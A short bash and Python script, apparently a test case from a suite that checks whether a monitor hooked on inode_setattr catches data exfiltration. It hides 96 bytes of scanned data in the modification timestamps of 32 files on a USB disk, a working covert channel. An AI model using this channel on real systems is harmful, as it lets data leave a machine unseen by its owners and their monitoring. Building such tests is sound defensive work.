#!/usr/bin/env bash
# technique: modification times of files on the USB disk hold the data
# hooks: inode_setattr
# sink: output

. attack.sh
mkdir -p "$COPY"
touch -d @1 "$COPY"/{1..32}.txt
python3 - <<'PY'
from attack import *

data = scan()
for number in range(32):
    seconds = 1_000_000_000 + int.from_bytes(data[number * 3 : number * 3 + 3])
    os.utime(f"{COPY}/{number + 1}.txt", (seconds, seconds))
PY
[ "$(stat -c %Y "$COPY/1.txt")" = 1 ] || carried 96
